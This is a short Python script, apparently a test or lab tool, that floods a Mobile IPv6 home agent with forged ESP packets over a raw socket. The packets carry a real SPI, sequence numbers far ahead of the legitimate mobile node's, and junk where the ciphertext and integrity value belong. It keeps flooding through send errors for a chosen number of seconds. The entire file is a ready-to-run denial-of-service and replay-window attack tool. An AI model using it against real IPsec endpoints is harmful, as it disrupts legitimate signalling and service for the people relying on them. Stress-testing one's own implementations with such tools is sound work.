#!/usr/bin/python3
"""Floods ha-agent with signalling-looking packets from ONE address: ESP
(protocol 50) with a real SPI, rising sequence numbers far ahead of the MN's
and 64 octets of junk where the ciphertext and ICV would be, through a plain
raw socket as fast as Python can for SECONDS. Prints the packets sent.
Usage: flood_signalling.py DST SPI SECONDS"""
import socket
import struct
import sys
import time

dst, spi, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 50)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
packets = [struct.pack("!II", spi, seq) + bytes(range(64)) for seq in range(1 << 24, (1 << 24) + 4096)]
addr = (dst, 0)
sent = failed = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    for p in packets:
        try:
            s.sendto(p, addr)
        except OSError:  # ENOBUFS and the like: keep flooding
            failed += 1
    sent += len(packets)
print(f"sent {sent - failed} failed {failed} in {seconds:.0f} s")
